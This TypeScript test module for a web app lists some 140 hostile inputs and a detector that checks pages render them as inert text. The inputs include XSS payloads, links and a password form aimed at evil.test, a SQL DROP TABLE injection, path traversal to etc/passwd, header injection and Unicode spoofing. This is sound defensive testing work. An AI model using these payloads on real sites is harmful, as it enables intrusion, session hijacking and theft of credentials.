/**
 * Texts that would run, break a page or mislead its reader if it showed them carelessly. Each test
 * of a page puts them wherever people and agents write.
 */
import assert from "node:assert/strict";
import type { Answered } from "./web.ts";

/** A hostile text. What runs sets `hurt`, a variable of the page. */
export interface HostileText {
  /** What it tries. */
  readonly aim: string;
  readonly text: string;
}

const RUN = "hurt=1";

/** Texts in one line without control characters: they fit into names and titles too. */
export const HOSTILE_LINES: readonly HostileText[] = [
  { aim: "a script", text: `<script>${RUN}</script>` },
  { aim: "a script of another site", text: `<script src="https://evil.test/x.js"></script>` },
  { aim: "a script behind a broken tag", text: `<<script>script>${RUN}<</script>/script>` },
  { aim: "a script in capitals", text: `<ScRiPt\t>${RUN}</sCrIpT >`.replace("\t", " ") },
  { aim: "the end of the page's own script", text: `</script><script>${RUN}</script>` },
  { aim: "the end of the title", text: `</title><img src=x onerror=${RUN}>` },
  { aim: "the end of a field", text: `</textarea><img src=x onerror=${RUN}>` },
  { aim: "the end of a choice", text: `</option></select><img src=x onerror=${RUN}>` },
  { aim: "the end of a code block", text: `</code></pre><img src=x onerror=${RUN}>` },
  { aim: "the end of a table", text: `</td></tr></table><img src=x onerror=${RUN}>` },
  { aim: "the end of a comment", text: `--><img src=x onerror=${RUN}><!--` },
  { aim: "the end of a section of data", text: `]]><img src=x onerror=${RUN}>` },
  { aim: "the end of an attribute", text: `" onmouseover="${RUN}` },
  { aim: "the end of an attribute in single quotes", text: `' onmouseover='${RUN}` },
  { aim: "the end of an attribute without quotes", text: `x onmouseover=${RUN}` },
  { aim: "the end of a tag", text: `"><img src=x onerror=${RUN}>` },
  { aim: "the end of a tag in single quotes", text: `'><img src=x onerror=${RUN}>` },
  { aim: "a backtick as a quote", text: "`><img src=x onerror=" + RUN + ">" },
  { aim: "a picture that fails", text: `<img src=x onerror=${RUN}>` },
  { aim: "a picture without a space", text: `<img/src=x/onerror=${RUN}>` },
  { aim: "a picture without an end", text: `<img src=x onerror=${RUN} x=` },
  { aim: "a drawing that loads", text: `<svg onload=${RUN}>` },
  { aim: "a script in a drawing", text: `<svg><script>${RUN}</script></svg>` },
  { aim: "a link in a drawing", text: `<svg><a xlink:href="javascript:${RUN}">x</a></svg>` },
  { aim: "an animated link", text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>` },
  { aim: "foreign content in a formula", text: `<math><mtext><img src=x onerror=${RUN}></mtext>` },
  {
    aim: "a parser that sees another nesting",
    text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },
  { aim: "a frame", text: `<iframe src="javascript:${RUN}"></iframe>` },
  {
    aim: "a frame with its own page",
    text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  },
  { aim: "an object", text: `<object data="data:text/html,<script>${RUN}</script>"></object>` },
  { aim: "an embedded page", text: `<embed src="javascript:${RUN}">` },
  { aim: "another base for links", text: `<base href="https://evil.test/">` },
  {
    aim: "a way to another page",
    text: `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  },
  {
    aim: "another policy",
    text: `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  },
  { aim: "a style sheet", text: `<style>body{display:none}</style>` },
  { aim: "a style", text: `<b style="position:fixed;inset:0;background:red">over the page</b>` },
  { aim: "a linked style sheet", text: `<link rel="stylesheet" href="https://evil.test/x.css">` },
  { aim: "a form", text: `<form action="https://evil.test/"><input name="password"></form>` },
  {
    aim: "another target of a form",
    text: `<button form="f" formaction="https://evil.test/">x</button>`,
  },
  { aim: "a field that takes the focus", text: `<input autofocus onfocus=${RUN}>` },
  { aim: "a box that opens", text: `<details open ontoggle=${RUN}>x</details>` },
  { aim: "a film that fails", text: `<video><source onerror=${RUN}></video>` },
  { aim: "the page's own element", text: `<main id="main" name="cookie">x</main>` },
  { aim: "a custom element", text: `<muster-chat data-live="/logout">x</muster-chat>` },
  { aim: "a script in a link", text: `<a href="javascript:${RUN}">x</a>` },
  { aim: "a script in a link of Markdown", text: `[x](javascript:${RUN})` },
  { aim: "a script with an entity", text: `[x](java&#115;cript:${RUN})` },
  { aim: "a script with capitals and spaces", text: `[x]( JaVaScRiPt:${RUN})` },
  { aim: "a page in a link", text: `[x](data:text/html;base64,PHNjcmlwdD5odXJ0PTE8L3NjcmlwdD4=)` },
  { aim: "Visual Basic in a link", text: `[x](vbscript:${RUN})` },
  { aim: "a script as a picture of Markdown", text: `![x](javascript:${RUN})` },
  { aim: "an attribute in a picture of Markdown", text: `![x](x "y" onerror=${RUN})` },
  { aim: "an automatic link", text: `<javascript:${RUN}>` },
  { aim: "a link of Fossil", text: `[javascript:${RUN}|x]` },
  { aim: "HTML in Fossil's markup", text: `<nowiki></nowiki><img src=x onerror=${RUN}>` },
  { aim: "a link to a server without a scheme", text: `[x](//evil.test/)` },
  {
    aim: "entities, which must not be decoded",
    text: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;amp; &#60;b&#62;`,
  },
  { aim: "a template", text: "${hurt=1} {{hurt=1}} <%= hurt=1 %> #{hurt=1}" },
  { aim: "SQL", text: `'; DROP TABLE agents; --` },
  { aim: "a path", text: `..\\..\\etc\\passwd%2e%2e%2f%00` },
  { aim: "percent signs", text: `100%25 %3Cscript%3E %E0%A4%A %` },
  { aim: "a header", text: `x%0d%0aSet-Cookie: muster_session=evil` },
  { aim: "names of every object", text: `__proto__ constructor toString hasOwnProperty` },
  { aim: "text that runs backwards", text: "invoice\u202Efdp.exe\u202C and \u2066isolated\u2069" },
  { aim: "letters without width", text: "adm\u200Bin \u2060x\u00ADy\uFEFFz" },
  { aim: "letters that look alike", text: "аdmin pаypal" },
  { aim: "towers of accents", text: `Z${"\u0335\u0321\u0353\u0318".repeat(12)}algo` },
  { aim: "characters beyond the first plane", text: "👩‍👩‍👧‍👦 𝒳 🏴󠁧󠁢󠁥󠁮󠁧󠁿 𠜎" },
  { aim: "a word without an end", text: "W".repeat(200) },
  { aim: "separators of lines that are no line feed", text: "one\u2028two\u2029three\u0085four" },
  { aim: "text that turns everything behind it", text: "safe\u202Eetercni eb ton seod siht" },
  { aim: "an isolate without an end", text: "price \u2067(txt.exe" },
  {
    aim: "a name that runs from right to left",
    text: "\u05D3\u05D5\u05D7 2026 \u0643\u0634\u0641.exe",
  },
  { aim: "marks of direction in a name", text: "\u200Fgpj.\u200Ephoto\u061C" },
  { aim: "a tower of accents of one letter", text: `a${"\u0300".repeat(500)}b` },
  { aim: "accents without a letter", text: `\u0489\u20DD\u20E3${"\u0E49".repeat(60)}` },
  { aim: "the widest character", text: `\uFDFD\u{12031}\u2E3B`.repeat(12) },
  { aim: "a family of emoji", text: "\u{1F469}\u200D\u{1F680}".repeat(80) },
  { aim: "flags and skins", text: "\u{1F1E9}\u{1F1EA}\u{1F44D}\u{1F3FF}".repeat(40) },
  { aim: "letters of formulas", text: "\u{1D4D7}\u{1D4D8} \u24B6\u24B7 \uFF1Cscript\uFF1E" },
  { aim: "blank letters", text: "a\u3164b\u2800c\u{E0041}d\u180Ee" },
  { aim: "an address without an end", text: `https://example.test/${"long".repeat(100)}` },
  { aim: "underscores without an end", text: `snake${"_case".repeat(60)}` },
  { aim: "spaces without an end", text: `a${"\u00A0".repeat(200)}b` },
  {
    aim: "a parser that changes its mind in a formula",
    text: `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  },
  {
    aim: "a comment that a style ends",
    text: `<svg><style><!--</style><img src=x onerror=${RUN}>--></style></svg>`,
  },
  {
    aim: "a form in a form in a formula",
    text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  },
  {
    aim: "a template that hides a script",
    text: `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  },
  { aim: "text that a plaintext element swallows", text: `<plaintext><xmp><listing>` },
  {
    aim: "an instruction",
    text: `<?xml-stylesheet href="javascript:${RUN}"?><!DOCTYPE x [<!ENTITY y "z">]>`,
  },
  {
    aim: "several pictures to choose from",
    text: `<img srcset="https://evil.test/x.png 1x, x 2x">`,
  },
  {
    aim: "a picture in a picture",
    text: `<picture><source srcset="https://evil.test/x"><img src=x></picture>`,
  },
  { aim: "a lazy frame", text: `<iframe loading=lazy src="https://evil.test/" onload=${RUN}>` },
  {
    aim: "a file of another site for a drawing",
    text: `<svg><use href="https://evil.test/x.svg#y"/></svg>`,
  },
  {
    aim: "a script in an animation",
    text: `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a>`,
  },
  {
    aim: "a foreign object",
    text: `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  },
  {
    aim: "a portal, a popover and a dialog",
    text: `<button popovertarget=x>x</button><dialog id=x open>over the page</dialog>`,
  },
  {
    aim: "a name that hides a function",
    text: `<form name="getElementById"><input name="cookie"><img name="body">`,
  },
  {
    aim: "ids that the page uses",
    text: `<a id="say" name="say"></a><ul id="own-channels"></ul><i id="L1"></i>`,
  },
  {
    aim: "attributes that the page's scripts act on",
    text: `<b data-live-part="state" data-card="x" data-copy="evil" data-key="h">x</b>`,
  },
  {
    aim: "an area for the keyboard",
    text: `<b tabindex="1" accesskey="x" contenteditable autofocus>x</b>`,
  },
  {
    aim: "a picture as a map",
    text: `<map name=x><area href="javascript:${RUN}" shape=default></map><img usemap=#x>`,
  },
  {
    aim: "rules in a style",
    text: `</style><style>@import "https://evil.test/x.css"; *{color:red!important}`,
  },
  {
    aim: "a value of a style",
    text: `red;background:url(https://evil.test/x);width:expression(${RUN})`,
  },
  {
    aim: "a link with a tab as an entity",
    text: `[x](java&Tab;script:${RUN}) <a href="java&#9;script:${RUN}">x</a>`,
  },
  { aim: "a link with percent signs", text: `[x](javascript%3A${RUN}) [y](%6aavascript:${RUN})` },
  {
    aim: "a link with a hidden letter",
    text: `[x](\u200Bjavascript:${RUN}) [y](javascript\uFF1A${RUN})`,
  },
  {
    aim: "a link with a name and a password",
    text: `[x](https://example.test@evil.test/) [y](https://evil.test\\@example.test)`,
  },
  {
    aim: "a link to another program",
    text: `[x](file:///etc/passwd) [y](blob:https://x/1) [z](ms-msdt:/id)`,
  },
  {
    aim: "nested brackets of Markdown",
    text: `[![x](x "a](javascript:${RUN})")](y) [[[[[[x]]]]]]((((y`,
  },
  {
    aim: "a heading, a table and a rule of Markdown",
    text: `# one | two * three _ four ~~ five \` six > seven --- eight`,
  },
  {
    aim: "HTML in a heading of Markdown",
    text: `## <img src=x onerror=${RUN}> {#say .x onclick=${RUN}}`,
  },
  {
    aim: "a link of the wiki with everything",
    text: `[Home|<img src=x onerror=${RUN}>] [http://x" onmouseover="${RUN}|y]`,
  },
  {
    aim: "verbatim text of Fossil",
    text: `<verbatim type="html"><script>${RUN}</script></verbatim><verbatim>`,
  },
  { aim: "a person, a ticket and a page", text: `@<script> #<b>0000000000</b> [<i>]` },
  { aim: "a format of a log", text: `%s%n%x {0} $(hurt=1) \`hurt=1\` ; hurt=1 | hurt=1 && hurt=1` },
  {
    aim: "colors of a terminal as they are written",
    text: "\\x1b[31m \\u001b]8;;https://evil.test\\u0007 ^[[2J",
  },
  { aim: "a line of IRC", text: ":irc.example QUIT :x PRIVMSG #general :\u00A0ACTION waves" },
];

/** Texts in several lines or with control characters: for messages, comments and contents. */
export const HOSTILE_BLOCKS: readonly HostileText[] = [
  { aim: "a script over lines", text: `<script\n>\n${RUN}\n</script\n>` },
  { aim: "a link with line feeds", text: `<a href="java\nscript:${RUN}">x</a>` },
  {
    aim: "a diff in a text",
    text: "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n\\ No newline at end of file\n",
  },
  { aim: "marks of a conflict", text: "<<<<<<< ours\none\n=======\ntwo\n>>>>>>> theirs\n" },
  {
    aim: "the end of a fence",
    text:
      "```\n```\n<img src=x onerror=hurt=1>\n```html\n</code></pre><script>hurt=1</script>\n```\n",
  },
  { aim: "a reference of Markdown", text: `[x]: javascript:${RUN} "y"\n\n[x]` },
  { aim: "colors of a terminal", text: "\x1b[31mred\x1b[0m \x1b]0;title\x07" },
  { aim: "colors of IRC", text: "\x0304red\x03 \x02bold\x02 \x1Funderlined\x0F" },
  { aim: "a carriage return", text: "safe\rhidden\r\nnext" },
  { aim: "the form feed and the vertical tab", text: "<img\fsrc=x\fonerror=hurt=1>\v" },
  { aim: "deep quotes", text: `${">".repeat(300)} deep\n` },
  {
    aim: "deep lists",
    text: Array.from({ length: 60 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  },
  { aim: "deep elements", text: `${"<div><b>".repeat(300)}deep` },
  {
    aim: "a wide table",
    text: `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n|${"b|".repeat(200)}\n`,
  },
  {
    aim: "controls that no terminal shows",
    text: "<scr\x01ipt>hurt=1</script>\x08\x7F\x85\x9B31m",
  },
  {
    aim: "headers of an answer",
    text:
      "x\r\nSet-Cookie: muster_session=evil\r\nContent-Type: text/html\r\n\r\n<script>hurt=1</script>",
  },
  {
    aim: "a diagram with HTML",
    text:
      '```pikchr\nbox "<script>hurt=1</script>" fit; text "</svg><img src=x onerror=hurt=1>"\n```\n',
  },
  {
    aim: "a diagram with links and no end",
    text: '```pikchr\nbox "[x](javascript:hurt=1)" width 99999in height 1in color 0x000000\n```\n',
  },
  {
    aim: "an envelope",
    text: JSON.stringify({
      v: 1,
      type: "<b>t</b>",
      id: "<i>",
      from: "bob",
      to: ["<u>"],
      payload: { title: `<img src=x onerror=${RUN}>` },
    }),
  },
  {
    aim: "a footnote and a definition",
    text: `[^1]: <img src=x onerror=${RUN}>\n\nx[^1]\n\n*[x]: " onmouseover="${RUN}\n`,
  },
  {
    aim: "an indented script",
    text: `- x\n\n      <script>${RUN}</script>\n\n1. <script>\n   ${RUN}\n   </script>\n`,
  },
];

export const HOSTILE_TEXTS: readonly HostileText[] = [...HOSTILE_LINES, ...HOSTILE_BLOCKS];

/** A tag with its attributes, as a browser would find it. */
const TAG = /<([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi;
const ATTRIBUTE = /([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;
const FORBIDDEN = new Set(["iframe", "frame", "object", "embed", "applet", "base", "style"]);
const ADDRESSES = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset", "data"]);

/** What in the HTML of a page could run, restyle the page or send something elsewhere. */
export function findLive(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name = "", rest = ""] of html.matchAll(TAG)) {
    const element = name.toLowerCase();
    const attributes = [...rest.matchAll(ATTRIBUTE)].map(([, key = "", ...values]) =>
      [key.toLowerCase(), values.find((value) => value !== undefined) ?? ""] as const
    );
    const of = (key: string) => attributes.find(([one]) => one === key)?.[1];
    const isOwn = element === "script" && of("src")?.startsWith("/assets/") === true;
    const isLive = FORBIDDEN.has(element) || of("http-equiv") !== undefined ||
      (element === "script" && !isOwn) ||
      (element === "link" && /^(?:https?:)?\/\//i.test(of("href") ?? "")) ||
      (element === "form" && !/^\/(?!\/)/.test(of("action") ?? "/")) ||
      attributes.some(([key, value]) =>
        key.startsWith("on") || key === "style" || key === "srcdoc" ||
        (ADDRESSES.has(key) && isScript(value) && !value.startsWith("data:image/svg+xml,%3Csvg"))
      );
    if (isLive) found.push(tag.slice(0, 200));
  }
  return found;
}

/** Whether a browser would run an address, which may have entities and blanks in it. */
function isScript(address: string): boolean {
  const plain = address.replace(/&#x?[0-9a-f]+;?|&\w+;/gi, "").replace(/[\s\p{Cc}]/gu, "");
  return /^(?:java\w*|vb\w*|data|blob):/i.test(plain);
}

/** Asserts that nothing of what people wrote is live on a page. */
export function assertInert(answered: Answered, label = ""): void {
  assert.deepEqual(findLive(answered.html), [], label);
}

/** Asserts that a page shows a text as what it is: as text, with nothing left out. */
export function assertShows(answered: Answered, text: string, label = ""): void {
  assertInert(answered, label);
  const fold = (words: string) => words.replace(/[\s\p{Cc}]+/gu, " ").trim();
  const [shown, wanted] = [fold(answered.text), fold(text)];
  assert.ok(shown.includes(wanted), `${label}: the page does not show ${JSON.stringify(text)}`);
}
